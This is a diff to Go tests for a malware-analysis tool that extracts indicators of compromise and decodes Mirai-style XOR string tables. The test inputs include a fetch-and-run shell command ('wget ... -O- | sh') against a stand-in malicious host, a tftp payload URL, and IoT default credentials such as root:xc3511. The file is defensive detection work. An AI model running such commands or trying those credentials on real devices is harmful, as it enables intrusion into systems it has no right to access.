@@ -28,8 +28,9 @@ func TestExtractIOCs(t *testing.T) {
 		{"url with port", []string{"wget http://bad.example.net:8081/x.sh -O- | sh"}, nil,
 			[]string{"bad.example.net"}, []string{"http://bad.example.net:8081/x.sh"}, []int{8081}, nil},
 		{"tftp url", []string{"tftp://198.51.100.2/mips"}, []IPRef{{netip.MustParseAddr("198.51.100.2"), 0}}, nil, []string{"tftp://198.51.100.2/mips"}, nil, nil},
-		{"colon pairs and adjacent", []string{"root:xc3511", "admin", "admin", "guest:notknown"}, nil, nil, nil, nil,
-			[]Credential{{"root", "xc3511"}, {"admin", "admin"}}},
+		// Neighbouring strings are not paired: that guessed pairs no table held.
+		{"colon pairs, not neighbours", []string{"root:xc3511", "admin", "admin", "guest:notknown"}, nil, nil, nil, nil,
+			[]Credential{{"root", "xc3511"}}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -71,7 +72,7 @@ func TestMiraiTableKeys(t *testing.T) {
 		pad := bytes.Repeat([]byte{0x90, 0x13, 0x00, 0x47}, 200)
 		data := append(bytes.Clone(pad), xorEncode(key, miraiEntries...)...)
 		data = append(data, pad...)
-		mt := findMiraiTable(data)
+		mt := findMiraiTable(data, neighbourXOR(data))
 		if mt == nil || mt.Key != key {
 			t.Fatalf("key %#x: table %+v", key, mt)
 		}
@@ -80,7 +81,8 @@ func TestMiraiTableKeys(t *testing.T) {
 		}
 	}
 	// Plain text is key 0, which is not a table.
-	if mt := findMiraiTable([]byte("\x00/bin/busybox\x00/dev/watchdog\x00TSource Engine Query\x00ncorrect\x00")); mt != nil {
+	plain := []byte("\x00/bin/busybox\x00/dev/watchdog\x00TSource Engine Query\x00ncorrect\x00")
+	if mt := findMiraiTable(plain, neighbourXOR(plain)); mt != nil {
 		t.Errorf("plain strings gave %+v", mt)
 	}
 }
@@ -100,7 +102,7 @@ func FuzzExtract(f *testing.F) {
 	f.Add([]byte("http://[::1]:99999/\x00root:xc3511\x00 1.1.1.1:0"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		s := extractStrings(data, 100)
-		mt := findMiraiTable(data)
+		mt := findMiraiTable(data, neighbourXOR(data))
 		var dec []string
 		if mt != nil {
 			dec = mt.Strings
